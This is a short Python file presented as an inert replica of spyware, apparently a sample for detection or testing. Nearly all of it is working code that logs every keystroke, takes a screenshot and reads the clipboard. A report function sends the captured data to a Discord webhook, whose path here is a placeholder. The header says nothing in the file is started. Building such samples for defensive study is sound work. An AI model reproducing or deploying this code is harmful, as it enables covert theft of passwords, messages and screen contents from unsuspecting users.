# Replica of a keylogger / screen grabber / clipboard thief reporting to a
# Discord webhook. Inert: the webhook URL is a placeholder path, nothing here
# is called by the package, and collect() is never started.
import io

import pyperclip
import requests
from PIL import ImageGrab
from pynput import keyboard

WEBHOOK = "https://discord.com/api/webhooks/000000/example-invalid"
_keys = []


def _on_press(key):
    _keys.append(str(key))


def _report():
    shot = io.BytesIO()
    ImageGrab.grab().save(shot, "PNG")
    requests.post(
        WEBHOOK,
        data={"content": "".join(_keys) + "\n" + pyperclip.paste()},
        files={"file": ("s.png", shot.getvalue())},
        timeout=5,
    )


def collect():
    with keyboard.Listener(on_press=_on_press) as listener:
        listener.join()
